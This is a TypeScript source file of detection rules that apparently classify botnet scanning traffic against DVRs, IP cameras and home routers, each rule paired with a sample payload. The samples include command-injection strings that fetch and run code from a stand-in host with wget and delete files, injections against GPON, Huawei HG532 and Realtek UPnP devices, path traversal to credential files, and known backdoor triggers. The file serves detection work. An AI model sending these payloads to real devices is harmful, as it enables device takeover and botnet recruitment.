import type { PayloadRule } from '../payload-rule.ts'

const get = (path: string): string => `GET ${path} HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n`

/** Cameras, recorders and home routers, which botnets take over. */
export const deviceRules: readonly PayloadRule[] = [
  {
    tags: ['DAHUA_DVR_SCANNER', 'DVR_SCANNER'],
    on: 'tcp',
    starts: ['\xa0\0\0\0', '\xa0\x01\0\0', '\xa3\0\0\x01', '\xa4\0\0'],
    ports: [37777, 37778],
    example: `\xa0\0\0\0${'\0'.repeat(28)}`,
  },
  {
    tags: ['DAHUA_DVR_SCANNER', 'DVR_SCANNER'],
    path: ['/current_config/', '/rpc2_login'],
    example: get('/current_config/passwd'),
    examplePort: 80,
  },
  {
    tags: ['DAHUA_NVR_SCANNER', 'DVR_SCANNER'],
    path: ['/cgi-bin/magicbox.cgi', '/rpc2', '/cgi-bin/configmanager.cgi'],
    example: get('/cgi-bin/magicBox.cgi?action=getSystemInfo'),
    examplePort: 80,
  },
  {
    tags: ['DVR_SCANNER'],
    path: [
      '/dvr/',
      '/cgi-bin/user/config.cgi',
      '/device.rsp',
      '/login.rsp',
      '/view2.html',
      '/shell',
      '/system.ini',
      '/onvif/',
      '/isapi/',
      '/doc/page/login.asp',
    ],
    example: get('/device.rsp?opt=user&cmd=list'),
    examplePort: 80,
  },
  {
    tags: ['DVR_SCANNER', 'EXPLOITATION', 'BOTNET'],
    path: ['/shell?'],
    example: get('/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/x;sh+x'),
    examplePort: 60001,
  },
  {
    tags: ['HISILICON_DVR', 'DVR_SCANNER', 'BACKDOOR'],
    on: 'tcp',
    has: ['openonce'],
    example: 'OpenTelnet:OpenOnce',
    examplePort: 9530,
  },
  {
    tags: ['HISILICON_DVR', 'DVR_SCANNER'],
    path: ['/../../', '/dvr/cmd', '/mnt/mtd/'],
    example: get('/../../mnt/mtd/Config/Account1'),
    examplePort: 80,
  },
  {
    tags: ['KGUARD_SCANNER', 'DVR_SCANNER'],
    starts: ['REMOTE HI_SRDK_'],
    example: 'REMOTE HI_SRDK_DEV_GetHddInfo MCTP/1.0\r\n\r\n',
    examplePort: 9000,
  },
  {
    tags: ['NUUO_NVR_SCANNER', 'DVR_SCANNER'],
    path: [
      '/upgrade_handle.php',
      '/__debugging_center_utils___.php',
      '/handle_iscsi.php',
      '/cgi-bin/cgi_main',
    ],
    example: get('/upgrade_handle.php?cmd=writeuploaddir&uploaddir=x'),
    examplePort: 80,
  },
  {
    tags: ['NVMS9000_DVR_SCANNER', 'DVR_SCANNER'],
    starts: ['{D79E94C5-70F0-46BD-965B-E17497CCB598}'],
    example: '{D79E94C5-70F0-46BD-965B-E17497CCB598} 1',
    examplePort: 4567,
  },
  {
    tags: ['NVMS9000_DVR_SCANNER', 'DVR_SCANNER'],
    path: ['/editblackandwhitelist'],
    example: 'POST /editBlackAndWhiteList HTTP/1.1\r\nHost: x\r\n\r\n',
    examplePort: 80,
  },
  {
    tags: ['DLINK_SCANNER', 'ROUTER_SCANNER'],
    path: [
      '/hnap1',
      '/getcfg.php',
      '/command.php',
      '/hedwig.cgi',
      '/soap.cgi',
      '/login.cgi?cli=',
      '/diagnostic.php',
      '/cgi-bin/nas_sharing.cgi',
    ],
    example: get('/login.cgi?cli=aa%20aa%27;wget%20http://192.0.2.9/d'),
    examplePort: 80,
  },
  {
    tags: ['DLINK_SCANNER', 'ROUTER_SCANNER', 'BACKDOOR'],
    has: ['xmlset_roodkcableoj28840ybtide'],
    example: 'GET / HTTP/1.1\r\nUser-Agent: xmlset_roodkcableoj28840ybtide\r\n\r\n',
    examplePort: 80,
  },
  {
    tags: ['DLINK_SCANNER', 'EXPLOITATION', 'BOTNET'],
    path: ['/login.cgi?cli=', '/hnap1'],
    hasOneOf: ['wget', 'busybox', '`cd '],
    example: get('/login.cgi?cli=aa%20aa%27;wget%20http://192.0.2.9/d'),
    examplePort: 80,
  },
  {
    tags: ['GPON_ONT_SCANNER', 'ROUTER_SCANNER'],
    path: ['/gponform/'],
    example: 'POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: x\r\n\r\n',
    examplePort: 8080,
  },
  {
    tags: ['GPON_ONT_SCANNER', 'EXPLOITATION', 'BOTNET'],
    path: ['/gponform/'],
    has: ['xwebpagename=', 'dest_host='],
    example:
      'POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: x\r\n\r\nXWebPageName=diag&diag_action=ping&dest_host=`id`',
    examplePort: 8080,
  },
  {
    tags: ['HUAWEI_HG532_SCANNER', 'ROUTER_SCANNER', 'CVE-2017-17215'],
    path: ['/ctrlt/deviceupgrade_1'],
    example: 'POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: x\r\n\r\n<NewStatusURL>$(id)</NewStatusURL>',
    examplePort: 37215,
  },
  {
    tags: ['REALTEK_MINIIGD_UPNP', 'UPNP_SCANNER', 'EXPLOITATION'],
    path: ['/picsdesc.xml', '/wanipcn.xml'],
    example:
      'POST /picsdesc.xml HTTP/1.1\r\nSOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n\r\n<NewInternalClient>`id`</NewInternalClient>',
    examplePort: 52869,
  },
  {
    tags: ['ZTE_F460_SCANNER', 'ROUTER_SCANNER'],
    path: ['/web_shell_cmd.gch', '/manager_dev_config_t.gch'],
    example: get('/web_shell_cmd.gch'),
    examplePort: 80,
  },
  {
    tags: ['ZTE_F660_SCANNER', 'ROUTER_SCANNER'],
    path: ['/web_shell_cmd.gch', '/getpage.gch', '/login.gch'],
    example: get('/web_shell_cmd.gch'),
    examplePort: 80,
  },
  {
    tags: ['MIKROTIK_ROUTEROS', 'EXPLOITATION', 'ROUTER_SCANNER'],
    ports: [8291],
    has: ['/flash/rw/store/user.dat'],
    example: 'h\x01\0fM2./////./..//////./..//flash/rw/store/user.dat\0',
  },
  {
    tags: ['ARUCER_BACKDOOR_SCANNER', 'BACKDOOR'],
    on: 'tcp',
    ports: [7777],
    least: 4,
    example: '\xc2\xe5\xe5\xe5\x9e',
  },
  {
    tags: ['LINUX_BACKDOOR_SCANNER', 'BACKDOOR'],
    on: 'tcp',
    ports: [6200, 31337, 1524],
    hasOneOf: ['id;', 'uname', 'id\n', 'id\r\n', 'whoami'],
    example: 'id;uname -a\n',
  },
  {
    tags: ['LINUX_BACKDOOR_SCANNER', 'BACKDOOR'],
    on: 'udp',
    ports: [53413],
    example: 'AA\0\0AAAA cd /tmp; id\n',
  },
]
